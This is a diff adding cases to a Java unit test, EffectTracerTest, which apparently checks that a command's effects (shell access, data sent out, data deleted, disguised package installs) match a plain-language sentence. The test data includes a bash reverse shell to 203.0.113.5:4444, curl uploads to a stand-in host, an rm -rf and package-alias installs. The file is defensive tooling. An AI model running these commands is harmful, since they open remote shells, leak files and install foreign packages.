@@ -18,6 +18,7 @@ import org.jspecify.annotations.NullUnmarked;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** Effects of commands, and objects in sentences, have the same hashes. */
 @NullUnmarked // what is null where it should not be fails the test
@@ -51,6 +52,13 @@ class EffectTracerTest {
         "runs-code | pip install 'finch-tools==1.2' | We all install `finch-tools`.",
         "persists | git config core.hooksPath /tmp/kite/hooks | Hooks are in /tmp/kite/hooks now.",
         "destroys-data | rm -rf /srv/heron | The old data in /srv/heron can go.",
+        "opens-shell | bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 | Support connects to 203.0.113.5 on port 4444.",
+        "sends-out | curl -d @x https://gull-8.example.net/in | Reports go to https://www.gull-8.example.net/out.",
+        "sends-out | curl -d @x https://kit.example:443@gull-8.example.net/in | Reports go to gull-8.example.net.",
+        "sends-out | curl -d @x https://gull-8.example.net./in | Reports go to gull-8.example.net.",
+        "sends-out | curl -d @x https://gull-8.example.net/in | Reports go to gull-8[.]example[.]net.",
+        "sends-out | curl -d @x https://gull-8.example.net/in | Reports go to gull-8 dot example dot net.",
+        "sends-out | curl -d @x https://gull-8.example.net/in | Reports go to <https://gull-8.example.net/in>.",
         "changes-pipeline | echo x >> ./.github/workflows/a.yml | See .github/workflows/a.yml for this.",
       })
   void aCommandAndASentenceNameTheSameObject(String effect, String command, String sentence) {
@@ -68,6 +76,31 @@ class EffectTracerTest {
     assertThat(command("git push https://github.com/other/copy.git").getEffects())
         .isNotEmpty()
         .noneMatch(it -> shares(it, text));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "npm i lodash@npm:finch-tools",
+        "npm i lodash@kit/lodash",
+        "brew install kit/tap/finch",
+        "conda install kit::numpy"
+      })
+  void aCommonNameForAnotherPackageIsNotKnown(String command) {
+    assertThat(command(command).getEffects()).isNotEmpty().noneMatch(TracedEffect::getKnown);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "npm i lodash@4",
+        "npm i @types/node@20",
+        "brew install jq",
+        "conda install conda-forge::numpy",
+        "docker run python:3.12-slim true"
+      })
+  void aCommonPackageIsKnown(String command) {
+    assertThat(command(command).getEffects()).isNotEmpty().allMatch(TracedEffect::getKnown);
   }
 
   @Test
